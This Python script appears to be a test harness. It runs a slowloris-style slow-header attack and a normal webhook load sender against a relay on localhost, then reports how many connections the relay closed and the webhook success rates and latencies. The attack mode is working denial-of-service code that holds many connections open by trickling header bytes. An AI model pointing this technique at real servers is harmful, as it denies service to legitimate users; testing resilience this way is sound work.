#!/usr/bin/env python3
"""A slow-header attack and a normal webhook sender against a relay on 127.0.0.1 (standard library only).

slowloris.py attack PORT SECONDS CONNECTIONS SOURCE
    CONNECTIONS connections from the address SOURCE, each sending one more byte of a request head every
    5 s and opened again a second after the relay closed it; ends after SECONDS.
slowloris.py send PORT SECONDS RATE PATH
    Posts a 1 KiB JSON webhook to PATH RATE times a second for SECONDS, each on a new connection (as
    webhook senders do), and prints how many were answered 202 and the latency percentiles of all.
"""
import asyncio
import sys
import time

BEAT = 5.0
REOPEN = 1.0
HEAD = b"POST /h/slow HTTP/1.1\r\nHost: relay\r\nX-Padding: " + b"p" * 8000
TIMEOUT = 10.0


async def hold(port, source, deadline, counts):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
        except OSError:
            await asyncio.sleep(min(BEAT, max(0.0, deadline - time.monotonic())))
            continue
        counts["opened"] += 1
        ended = asyncio.ensure_future(reader.read(-1))
        try:
            for sent in range(len(HEAD)):
                writer.write(HEAD[sent:sent + 1])
                await asyncio.wait([ended], timeout=min(BEAT, max(0.0, deadline - time.monotonic())))
                if ended.done() or time.monotonic() >= deadline:
                    break
        except OSError:
            pass
        counts["closed by the relay"] += 1 if ended.done() else 0
        ended.cancel()
        writer.close()
        await asyncio.sleep(min(REOPEN, max(0.0, deadline - time.monotonic())))


async def attack(port, seconds, connections, source):
    deadline = time.monotonic() + seconds
    counts = {"opened": 0, "closed by the relay": 0}
    await asyncio.gather(*(hold(port, source, deadline, counts) for _ in range(connections)))
    print(f"attack: {counts['opened']} connections opened, {counts['closed by the relay']} closed by the relay")


async def post(port, request):
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(request)
        response = await reader.read(-1)
    finally:
        writer.close()
    return int(response[9:12]) if response.startswith(b"HTTP/1.1 ") else 0


async def send(port, seconds, rate, path):
    body = b'{"event":"deploy","status":"succeeded","note":"' + b"x" * 976 + b'"}'
    request = (f"POST {path} HTTP/1.1\r\nHost: relay\r\nContent-Type: application/json\r\n"
               f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode() + body
    statuses, latencies = [], []
    start = time.monotonic()
    for index in range(int(seconds * rate)):
        await asyncio.sleep(max(0.0, start + index / rate - time.monotonic()))
        began = time.monotonic()
        try:
            statuses.append(await asyncio.wait_for(post(port, request), TIMEOUT))
        except (OSError, asyncio.TimeoutError):
            statuses.append(0)
        latencies.append(time.monotonic() - began)
    latencies.sort()
    share = 100.0 * statuses.count(202) / len(statuses)
    other = sorted({status for status in statuses if status != 202})
    print(f"sender: {statuses.count(202)} of {len(statuses)} answered 202 ({share:.1f} %), others {other}; "
          f"latency p50 {1000 * latencies[len(latencies) // 2]:.1f} ms, "
          f"p99 {1000 * latencies[int(len(latencies) * 0.99)]:.1f} ms, max {1000 * latencies[-1]:.1f} ms")


def main(arguments):
    mode, port, seconds = arguments[0], int(arguments[1]), float(arguments[2])
    if mode == "attack":
        asyncio.run(attack(port, seconds, int(arguments[3]), arguments[4]))
    else:
        asyncio.run(send(port, seconds, float(arguments[3]), arguments[4]))


if __name__ == "__main__":
    main(sys.argv[1:])
